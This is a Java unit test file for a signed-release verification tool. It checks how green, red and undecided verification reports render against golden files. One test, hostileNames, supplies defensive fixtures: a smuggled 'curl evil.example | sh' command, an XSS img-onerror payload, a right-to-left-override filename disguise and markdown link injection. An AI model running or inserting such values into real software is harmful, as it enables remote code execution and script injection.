package dev.countersign.report;

import static dev.countersign.report.Verdicts.V1_2_0;
import static dev.countersign.report.Verdicts.brokenOff;
import static dev.countersign.report.Verdicts.contents;
import static dev.countersign.report.Verdicts.digest;
import static dev.countersign.report.Verdicts.entry;
import static dev.countersign.report.Verdicts.set;
import static dev.countersign.report.Verdicts.verdict;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.report.CheckReport.Conclusion;
import dev.countersign.verification.Check;
import dev.countersign.verification.ContentsResult;
import dev.countersign.verification.EntryResult.DiffersFromTag;
import dev.countersign.verification.EntryResult.ManifestItselfDiffers;
import dev.countersign.verification.EntryResult.MatchesTag;
import dev.countersign.verification.EntryResult.Missing;
import dev.countersign.verification.EntryResult.NotAFile;
import dev.countersign.verification.Finding;
import dev.countersign.verification.ReasonCode;
import dev.countersign.verification.SetVerdict;
import dev.countersign.verification.SigningFacts;
import dev.countersign.verification.TreeEntry;
import dev.countersign.verification.Verdict;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Every message as a person reads it, in {@code src/test/resources/golden}. */
class CheckReportsTest {
  private static final String OTHER_COMMIT = "1f9439c395f4c25c9a7dd54b774eb73cb2898996";

  @Test
  void greenWithALegacyBundle() {
    Golden.assertReport("green-legacy-promise", CheckReports.verdict(Verdicts.pyconfr()));
  }

  @Test
  void greenWithACurrentBundle() {
    Golden.assertReport(
        "green", CheckReports.verdict(verdict(set("checksums-1.txt", contents("a.py", "b.py")))));
  }

  @Test
  void greenWithAnUnlistedFile() {
    ContentsResult contents =
        new ContentsResult(contents("a.py", "b.py").entries(), List.of("docs/notes.md", "x.sh"));
    Golden.assertReport(
        "green-unlisted-warning",
        CheckReports.verdict(
            verdict(
                set(
                    "checksums-1.txt",
                    contents,
                    Finding.warning(
                        Check.CONTENTS,
                        ReasonCode.FILE_UNLISTED,
                        "every file of the tag is listed",
                        "docs/notes.md, x.sh")))));
  }

  @Test
  void greenByAnEditedAndANewWorkflow() {
    Golden.assertReport(
        "green-workflow-changed",
        CheckReports.verdict(
            verdict(set("checksums-1.txt", contents("a.py", "b.py"))),
            List.of(
                new WorkflowChange(Verdicts.WORKFLOW, "v1.1.0", OTHER_COMMIT, false),
                new WorkflowChange(".github/workflows/`new`.yml", "<b>v1", OTHER_COMMIT, true))));
  }

  @Test
  void tamperedManifest() {
    Golden.assertReport(
        "red-manifest-tampered",
        CheckReports.verdict(
            verdict(
                set(
                    "checksums-1.txt",
                    contents("a.py"),
                    Finding.failed(
                        Check.SIGNATURE,
                        ReasonCode.DIGEST_MISMATCH,
                        "SHA-256 " + digest("signed"),
                        "SHA-256 " + digest("tampered"))))));
  }

  @Test
  void movedTag() {
    Golden.assertReport(
        "red-tag-moved",
        CheckReports.verdict(
            verdict(
                set(
                    "checksums-1.txt",
                    contents("a.py", "b.py"),
                    Finding.failed(
                        Check.COMMIT, ReasonCode.TAG_MOVED, Verdicts.COMMIT, OTHER_COMMIT)))));
  }

  @Test
  void otherRepositoryWithALookAlikeName() {
    SigningFacts facts = Verdicts.modernFacts(Verdicts.release("octo-0rg/octo-app", "v1.2.0"));
    Golden.assertReport(
        "red-repository",
        CheckReports.verdict(
            verdict(
                set(
                    "checksums-1.txt",
                    facts,
                    contents("a.py"),
                    Finding.failed(
                        Check.SIGNER,
                        ReasonCode.SIGNER_MISMATCH,
                        Verdicts.identity(V1_2_0),
                        facts.subjectAlternativeName()),
                    Finding.failed(
                        Check.REPOSITORY,
                        ReasonCode.REPOSITORY_MISMATCH,
                        "octo-org/octo-app",
                        "octo-оrg/octo-app")))));
  }

  @Test
  void otherTrigger() {
    Golden.assertReport(
        "red-trigger",
        CheckReports.verdict(
            verdict(
                set(
                    "checksums-1.txt",
                    contents("a.py"),
                    Finding.failed(
                        Check.TRIGGER,
                        ReasonCode.TRIGGER_MISMATCH,
                        "release",
                        "workflow_dispatch")))));
  }

  @Test
  void differingAndMissingFiles() {
    ContentsResult contents =
        new ContentsResult(
            List.of(
                new MatchesTag(entry(1, "a.py")),
                new DiffersFromTag(entry(2, "src/b.py"), digest("b at the tag"), Optional.empty()),
                new DiffersFromTag(entry(3, "src/c.py"), digest("c at the tag"), Optional.empty()),
                new Missing(entry(4, "dist/app.whl"), Optional.empty()),
                new NotAFile(entry(5, "current"), TreeEntry.Kind.SYMBOLIC_LINK),
                new ManifestItselfDiffers(entry(6, "checksums-1.txt"), digest("lines above"))),
            List.of());
    Golden.assertReport(
        "red-contents",
        CheckReports.verdict(
            verdict(
                set(
                    "checksums-1.txt",
                    contents,
                    differing("src/b.py"),
                    differing("src/c.py"),
                    Finding.failed(
                        Check.CONTENTS,
                        ReasonCode.FILE_MISSING,
                        "a file at the tag",
                        "dist/app.whl")))));
  }

  @Test
  void lineThatIsNoChecksum() {
    Golden.assertReport(
        "red-manifest-line",
        CheckReports.verdict(
            verdict(
                set(
                    "checksums-1.txt",
                    contents("a.py"),
                    Finding.failed(
                            Check.MANIFEST,
                            ReasonCode.MANIFEST_LINE_UNREADABLE,
                            "64 hex digits, two spaces and a path",
                            "line 2: # end")
                        .atLine(2)))));
  }

  @Test
  void unreadableBundle() {
    Golden.assertReport(
        "red-bundle-unreadable",
        CheckReports.verdict(
            verdict(
                brokenOff(
                    "checksums-1.txt",
                    Finding.failed(
                        Check.MATERIALS,
                        ReasonCode.BUNDLE_UNREADABLE,
                        "a Sigstore bundle",
                        "checksums-1.txt.sigstore.json: JSON ends at line 1, column 912")))));
  }

  @Test
  void oneOfSeveralSetsIsBad() {
    Golden.assertReport(
        "red-one-of-several",
        CheckReports.verdict(
            verdict(
                set("checksums-1.txt", contents("a.py")),
                set(
                    "checksums-2.txt",
                    contents("b.py"),
                    Finding.failed(
                        Check.TAG, ReasonCode.TAG_MISMATCH, "refs/tags/v1.2.0", "refs/tags/v1.1.0"),
                    Finding.warning(
                        Check.REPOSITORY,
                        ReasonCode.CLAIM_MISSING,
                        "repository id 600000000",
                        "no id: identity by name only")))));
  }

  @Test
  @Tag("threat-21")
  void hostileNames() {
    String path = "a|b`c``\n<img src=x onerror=alert(1)>\u202Egnp.exe";
    SetVerdict set =
        new SetVerdict(
            "checksums-@octocat #1 [x](https://evil.example).txt",
            Optional.of(
                new SigningFacts(
                    "https://github.com/evil/../octo-org' && curl evil.example | sh",
                    Map.of(
                        "1.3.6.1.4.1.57264.1.4", "</details> @octo-org/security www.evil.example",
                        "1.2.3", "\u0000\u0007"),
                    digest("hostile"),
                    Instant.parse("2025-09-01T10:04:10Z"),
                    Instant.parse("2025-09-01T10:14:10Z"),
                    Optional.empty(),
                    Optional.of(7L),
                    Optional.of("https://rekor.evil.example"),
                    Optional.empty())),
            List.of(
                Finding.failed(
                    Check.SIGNER,
                    ReasonCode.SIGNER_MISMATCH,
                    Verdicts.identity(V1_2_0),
                    "@octocat closes #1 | **bold** ![x](https://evil.example/x.png)"),
                Finding.failed(Check.CONTENTS, ReasonCode.FILE_MISSING, path, "x".repeat(2_000))),
            new ContentsResult(
                List.of(new Missing(entry(1, path), Optional.empty())), List.of("~~~\n# heading")));
    Golden.assertReport(
        "red-hostile-names",
        CheckReports.verdict(
            new Verdict(
                Verdicts.release("octo-org/octo-app", "v1<b>@octocat</b>#2\u2066"), List.of(set))));
  }

  @Test
  void aCheckThatWasNotMadeIsNeitherGreenNorRed() {
    SetVerdict whole = set("checksums-1.txt", contents("a.py"));
    SetVerdict withoutTime =
        new SetVerdict(
            whole.manifestPath(),
            whole.signing(),
            whole.findings().stream().filter(f -> f.check() != Check.SIGNING_TIME).toList(),
            whole.contents());
    CheckReport report = CheckReports.verdict(verdict(withoutTime));
    assertThat(report.conclusion()).contains(Conclusion.ACTION_REQUIRED);
    Golden.assertReport("undecided-check-not-made", report);
  }

  @Test
  @Tag("threat-19")
  void aCheckThatReachedALimitIsNeitherGreenNorRed() {
    SetVerdict whole = set("checksums-1.txt", contents("a.py"));
    SetVerdict limited =
        new SetVerdict(
            whole.manifestPath(),
            whole.signing(),
            whole.findings().stream()
                .map(
                    finding ->
                        finding.check() == Check.CONTENTS
                            ? Finding.undecided(
                                Check.CONTENTS,
                                ReasonCode.CONTENT_LIMIT_REACHED,
                                "at most 4,294,967,296 bytes (CONTENT_MAX_BYTES)",
                                "the tag's files unpack to more")
                            : finding)
                .toList(),
            whole.contents());
    CheckReport report = CheckReports.verdict(verdict(limited));
    assertThat(report.conclusion()).contains(Conclusion.ACTION_REQUIRED);
    Golden.assertReport("undecided-limit-reached", report);
  }

  private static Finding differing(String path) {
    return Finding.failed(
        Check.CONTENTS,
        ReasonCode.CONTENTS_DIFFER,
        path + " as listed",
        path + " with other bytes");
  }
}
